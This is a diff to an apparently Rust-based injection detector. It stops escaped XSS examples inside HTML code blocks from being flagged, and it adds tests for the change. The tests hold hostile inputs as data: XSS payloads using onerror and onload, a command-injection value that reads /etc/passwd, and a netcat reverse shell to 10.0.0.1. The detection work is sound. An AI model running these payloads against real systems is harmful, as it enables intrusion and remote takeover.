@@ -114,7 +114,14 @@ pub fn confirm(
             reason: FRAGMENT.to_owned(),
         };
     };
-    let mut forms = with_transformed(decoded, raw, transformed, map);
+    // HTML is read as a browser reads it: its character references are text. A rich-text editor escapes the
+    // markup a user types as text (a post showing `&lt;img onerror=...&gt;` inside `<code>`), and decoding them
+    // would turn the example into the markup it shows.
+    let mut forms = if shape == Shape::Markup && confirm == Confirm::Xss {
+        vec![Cow::Borrowed(raw)]
+    } else {
+        with_transformed(decoded, raw, transformed, map)
+    };
     if shape == Shape::Expression {
         for form in &mut forms {
             if let Some(syntax) = sql::odata_syntax(form) {
@@ -452,6 +459,14 @@ mod tests {
             "&lt;img src=x onerror=alert(1)&gt;"
         ));
         assert!(confirmed(Confirm::Xss, "\\u003csvg onload=alert(1)\\u003e"));
+        // Rich text showing an escaped example is read as a browser reads it; its own markup still counts.
+        let post =
+            "<p>I tried <code>&lt;img src=x onerror=alert(1)&gt;</code> and it was escaped.</p>";
+        assert!(!confirmed(Confirm::Xss, post));
+        assert!(confirmed(
+            Confirm::Xss,
+            "<p>I tried <code>x</code> <img src=x onerror=alert(1)> and it was escaped.</p>"
+        ));
         assert!(confirmed(Confirm::Shell, "127.0.0.1; cat /etc/passwd"));
         assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
         // A fragment of no data shape scores as its pattern says.
